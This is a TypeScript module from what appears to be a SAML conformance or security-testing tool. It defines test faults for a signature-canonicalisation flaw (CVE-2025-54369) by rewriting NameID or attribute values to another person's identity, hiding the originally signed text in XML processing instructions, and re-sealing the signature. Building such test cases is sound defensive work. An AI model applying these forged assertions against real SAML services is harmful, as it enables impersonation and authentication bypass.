import type { FaultContext } from '../../saml/index.ts';
import { editAll, text, withChildren, type XmlElement, type XmlNode } from '../../saml/xml/index.ts';
import { type FaultEntry, otherPerson } from '../parts.ts';
import { editAssertion, editSignatures, redigested, reseal } from '../signed.ts';

const SUFFIX = '.attacker.example';
const AS = { as: 'Login of the person whom a reader finds in front of what is hidden.' };

const instruction = (data: string) => ({ kind: 'instruction', target: 'assay', data }) as const;

/**
 * What was signed goes on behind the other person; what is sent has the rest inside a processing instruction. Whoever
 * canonicalises an instruction to its bare data finds the signature valid, and reads what stands in front.
 */
function hidden(
  name: string,
  summary: string,
  element: 'NameID' | 'AttributeValue',
  victim: (context: FaultContext) => string,
  rest: readonly XmlNode[] = [instruction(SUFFIX)],
): FaultEntry {
  return {
    name,
    effect: 'open',
    summary,
    clause: 'CVE-2025-54369; CWE-436',
    parameters: AS,
    point: 'signed-response',
    apply: async (response, context) => {
      const whole = await written(response, context, element, victim(context));
      const sealed = await editSignatures(whole, context, async (signature, carrier) => [
        await reseal(redigested(signature, carrier), context),
      ]);
      return editAssertion(sealed, context, (assertion) =>
        editAll(assertion, element, (found) => withChildren(found, [text(victim(context)), ...rest])),
      );
    },
  };
}

function written(response: XmlElement, context: FaultContext, element: string, victim: string): Promise<XmlElement> {
  return editAssertion(response, context, (assertion) =>
    editAll(assertion, element, (found) => withChildren(found, [text(victim + SUFFIX)])),
  );
}

/** Text that is signed and cannot be read any more. */
export const hiddenTextFaults: readonly FaultEntry[] = [
  hidden(
    'name-id-rest-hidden',
    "NameID is another person's; what was signed behind it is inside a processing instruction.",
    'NameID',
    (context) => otherPerson(context).nameId,
  ),
  hidden(
    'name-id-partly-hidden',
    "NameID begins with another person's; of what was signed behind it, some is inside a processing instruction.",
    'NameID',
    (context) => otherPerson(context).nameId,
    // Only a reader of the first piece of text finds the name; one that joins all of them finds nobody's.
    [instruction('.attacker'), text('.example')],
  ),
  hidden(
    'attributes-rest-hidden',
    "Every attribute value is another person's; what was signed behind it is inside a processing instruction.",
    'AttributeValue',
    (context) => otherPerson(context).displayName,
  ),
];
